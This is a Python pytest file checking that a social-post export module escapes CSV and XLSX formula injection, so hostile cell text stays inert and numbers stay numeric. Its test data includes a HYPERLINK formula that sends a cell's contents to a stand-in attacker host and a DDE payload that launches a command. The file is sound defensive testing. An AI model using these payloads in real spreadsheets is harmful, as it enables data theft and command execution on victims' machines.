"""Exports never turn post text into spreadsheet formulas (CSV injection): `=HYPERLINK(…)` from a post stays
text in CSV as it does in XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mcu.export import write_records

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "+7 (481) 53-00-00", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1", "\uff1dcmd|' /C calc'!A0"]


def records() -> list[dict[str, object]]:
    return [{"id": str(i), "text": text, "views": -5 if i == 0 else i, "share": 0.5, "reasons": ["=1+1"]}
            for i, text in enumerate(HOSTILE)] + [{"id": "ok", "text": "Нет воды в 3 мкр", "views": 10, "share": 1.0,
                                                    "reasons": []}]


def test_csv_cells_that_would_be_formulas_are_text(tmp_path: Path) -> None:
    path = tmp_path / "posts.csv"
    assert write_records(records(), "csv", path) == len(HOSTILE) + 1
    with path.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    for row, text in zip(rows, HOSTILE, strict=False):
        assert row["text"] == "'" + text, "апостроф: Excel и LibreOffice покажут текст, а не выполнят формулу"
    assert rows[-1]["text"] == "Нет воды в 3 мкр"
    assert rows[0]["views"] == "-5" and rows[1]["share"] == "0.5", "числа остаются числами"
    assert all(not row["text"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_cells_with_formula_text_are_strings(tmp_path: Path, text: str) -> None:
    path = tmp_path / "posts.xlsx"
    write_records([{"id": "1", "text": text, "views": -5}], "xlsx", path, kind="posts")
    sheet = load_workbook(path).active
    cell = sheet["B2"]
    assert cell.data_type == "s" and cell.value == text
    assert sheet["C2"].value == -5
